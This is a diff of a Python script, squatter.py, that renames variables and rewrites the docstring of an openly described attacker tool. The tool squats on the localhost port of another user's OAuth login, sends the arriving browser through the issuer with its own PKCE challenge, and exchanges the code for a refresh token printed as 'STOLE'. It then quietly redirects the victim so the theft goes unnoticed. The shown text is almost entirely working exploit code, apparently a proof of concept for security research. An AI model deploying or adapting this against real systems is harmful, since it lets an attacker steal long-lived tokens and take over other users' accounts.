@@ -1,10 +1,10 @@
-"""Listens at the address of another user's login and runs a login of its own with the browser that arrives.
+"""Attacker that listens on the port of another user's login and runs its own login with the browser that connects.
 
-squatter.py ISSUER CLIENT_ID PORT ADDRESS…
+    squatter.py ISSUER CLIENT-ID PORT ADDRESS…
 
-ADDRESS is ::1, ::, 0.0.0.0 or 127.0.0.1; `::+` also takes IPv4. Prints `BOUND` or `REFUSED` for each. A
-browser that comes is sent to the issuer with a challenge of this program's own, and back to the same place; what the issuer
-gives for the code is printed as `STOLE`, and the browser goes on to 127.0.0.1, so that its user notices nothing.
+ADDRESS is ::1, ::, 0.0.0.0 or 127.0.0.1; `::+` also accepts IPv4. Prints `BOUND` or `REFUSED` for each, then `READY`. Redirects a
+browser to the issuer with its own PKCE challenge, prints the refresh token it gets for the code as `STOLE`, and then redirects the
+browser to 127.0.0.1, so that the user notices nothing.
 """
 
 import base64
@@ -22,13 +22,13 @@ import urllib.request
 issuer, client_id, port, addresses = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4:]
 verifier = secrets.token_urlsafe(48)
 challenge = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).rstrip(b"=").decode()
-mine = secrets.token_hex(8)
+own_state = secrets.token_hex(8)
 lock = threading.Lock()
 
 
-def log(*words):
+def log(*values):
     with lock:
-        print(*words, flush=True)
+        print(*values, flush=True)
 
 
 class Handler(http.server.BaseHTTPRequestHandler):
@@ -39,13 +39,13 @@ class Handler(http.server.BaseHTTPRequestHandler):
         query = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(self.path).query))
         log("VISITED", self.headers.get("Host"), self.path.split("?")[0], *sorted(query))
         redirect = f"http://localhost:{port}"
-        if "code" in query and query.get("state") != mine:
-            # Of the login itself: of no use without its verifier, so it goes where it was meant to go.
+        if "code" in query and query.get("state") != own_state:
+            # The code of the real login. It is useless without the verifier, so it is passed on.
             log("CODE", query["code"])
-            where = f"http://127.0.0.1:{port}{self.path}"
+            target = f"http://127.0.0.1:{port}{self.path}"
         elif "code" not in query:
-            where = f"{issuer}/authorize?" + urllib.parse.urlencode({
-                "response_type": "code", "client_id": client_id, "redirect_uri": redirect, "state": mine,
+            target = f"{issuer}/authorize?" + urllib.parse.urlencode({
+                "response_type": "code", "client_id": client_id, "redirect_uri": redirect, "state": own_state,
                 "scope": "openid offline_access", "code_challenge": challenge, "code_challenge_method": "S256",
             })
         else:
@@ -57,9 +57,9 @@ class Handler(http.server.BaseHTTPRequestHandler):
                     log("STOLE", tokens["refresh_token"])
             except urllib.error.HTTPError as error:
                 log("FAILED", error.code)
-            where = f"http://127.0.0.1:{port}/"
+            target = f"http://127.0.0.1:{port}/"
         self.send_response(302)
-        self.send_header("Location", where)
+        self.send_header("Location", target)
         self.send_header("Content-Length", "0")
         self.end_headers()
 
